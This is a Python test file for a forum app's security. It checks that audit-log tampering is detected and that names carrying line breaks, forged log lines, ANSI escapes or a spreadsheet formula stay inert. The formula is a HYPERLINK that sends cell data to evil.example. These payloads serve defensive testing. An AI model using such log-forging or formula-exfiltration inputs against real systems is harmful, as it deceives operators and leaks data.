"""Audit tampering (caught at that row by the operator's `flask forum verify-audit`) and log
injection through names (one entry stays one line: in the log page, its CSV and the server log)."""

from __future__ import annotations

import csv
import io
import logging
import os
import subprocess
import sys

import pytest
import sqlalchemy as sa

from forum.audit import services as audit
from forum.audit.models import AuditChain, AuditEntry
from forum.db import unit_of_work
from forum.discussions import services as discussions
from forum.extensions import db
from tests.conftest import ROOT
from tests.security.conftest import plenary


def verify_audit(database_url: str) -> subprocess.CompletedProcess:
    """The command an operator runs, in a process of its own, on the test's database."""
    env = {**os.environ, "FORUM_DATABASE_URL": database_url, "FORUM_SECRET_KEY": "audit-test-secret"}
    return subprocess.run([sys.executable, "-m", "flask", "--app", "wsgi", "forum", "verify-audit"], cwd=ROOT,
                          env=env, capture_output=True, text=True, timeout=120)


def make_chain(make_meeting, make_participant) -> str:
    """A meeting whose chain holds real entries: the meeting, a participant, a thread and replies."""
    meeting = make_meeting()
    delegate = make_participant(meeting, "government")
    with unit_of_work():
        thread = discussions.start_thread(db.session.merge(delegate.user), plenary(meeting), title="Agenda",
                                          body="Opening remarks")
        for n in range(3):
            discussions.reply(db.session.merge(delegate.user), thread, body=f"Point {n}")
    key = f"meeting:{meeting.id}"
    count = db.session.scalar(sa.select(sa.func.count()).select_from(AuditEntry).join(AuditChain)
                              .where(AuditChain.key == key))
    assert count >= 6
    return key


def where(key: str, seq: int):
    chain_id = sa.select(AuditChain.id).where(AuditChain.key == key).scalar_subquery()
    return sa.and_(AuditEntry.chain_id == chain_id, AuditEntry.seq == seq)


def tamper(stmt) -> None:
    with unit_of_work():
        db.session.execute(stmt)


def test_audit_tampering_edit_delete_and_reorder_are_each_named_at_their_row(make_meeting, make_participant,
                                                                              database_url):
    """Four meetings: one edited, one with a row deleted, one reordered, one untouched; one run of
    the operator's command (a process of its own, as after a restore) names each tampered row."""
    edited, deleted, reordered, intact = (make_chain(make_meeting, make_participant) for _ in range(4))
    tamper(sa.update(AuditEntry).where(where(edited, 4)).values(payload='{"body":"never said"}'))
    tamper(sa.delete(AuditEntry).where(where(deleted, 3)))
    tamper(sa.update(AuditEntry).where(where(reordered, 3)).values(seq=-3))
    tamper(sa.update(AuditEntry).where(where(reordered, 5)).values(seq=3))
    tamper(sa.update(AuditEntry).where(where(reordered, -3)).values(seq=5))
    result = verify_audit(database_url)
    lines = result.stdout.splitlines()
    assert result.returncode == 1, result.stdout + result.stderr
    assert f"BROKEN {edited} at entry 4: its content does not match its hash" in lines
    assert any(line.startswith(f"BROKEN {deleted} at entry 3") and "missing" in line for line in lines)
    assert any(line.startswith(f"BROKEN {reordered} at entry 3") for line in lines)
    assert any(line.startswith(f"OK {intact} ") for line in lines)


# --- log injection ------------------------------------------------------------------------------------

FORGED = "Mallory\nOK global 1 entries\r\n2027-06-01 12:00:00 INFO user.login admin@ilo.org\x1b[2J"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_log_injection_names_with_line_breaks_are_refused_for_new_accounts(make_user):
    from forum.accounts.services import create_user
    from forum.errors import ValidationFailed

    with pytest.raises(ValidationFailed) as refused, unit_of_work():
        create_user(None, "mallory@example.org", FORGED)
    assert "name" in refused.value.fields


def test_log_injection_through_names_in_the_audit_log_and_its_csv(make_user, make_meeting, make_participant,
                                                                   login):
    """Names that arrive anyway (an accreditation list, an older account) stay data, one line each."""
    secretariat = make_user(staff=True)
    meeting = make_meeting(secretariat)
    evil = make_participant(meeting, "worker", name=FORGED)
    formula = make_participant(meeting, "employer", name=FORMULA)
    with unit_of_work():
        for p in (evil, formula):
            audit.record(db.session.merge(p.user), "test.named", db.session.merge(p.user),
                         {"name": p.user.name}, meeting_id=meeting.id)
    client = login(secretariat)
    page = client.get(f"/meetings/{meeting.id}/audit")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert html.count("<code>test.named</code>") == 2  # one row each, whatever the names hold
    export = client.get(f"/meetings/{meeting.id}/audit.csv")
    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff"))))
    header, records = rows[0], rows[1:]
    entries = db.session.scalar(sa.select(sa.func.count()).select_from(AuditEntry).join(AuditChain)
                                .where(AuditChain.key == f"meeting:{meeting.id}"))
    assert len(records) == entries  # a name's line breaks did not add records
    assert all(len(r) == len(header) for r in records)
    cells = [c for r in records for c in r]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)  # no formula reaches a spreadsheet


def test_log_injection_through_names_in_the_server_log(app):
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("%(levelname)s %(name)s %(message)s"))
    logger = logging.getLogger("forum.security_test")
    logger.addHandler(handler)
    try:
        logger.warning("sign-in refused for %s", FORGED)
        logger.warning("reset link for %(email)s", {"email": FORGED})
    finally:
        logger.removeHandler(handler)
    lines = stream.getvalue().splitlines()
    assert len(lines) == 2
    assert all(line.startswith("WARNING forum.security_test ") for line in lines)
    assert "\x1b" not in stream.getvalue() and "\\nOK global" in lines[0]
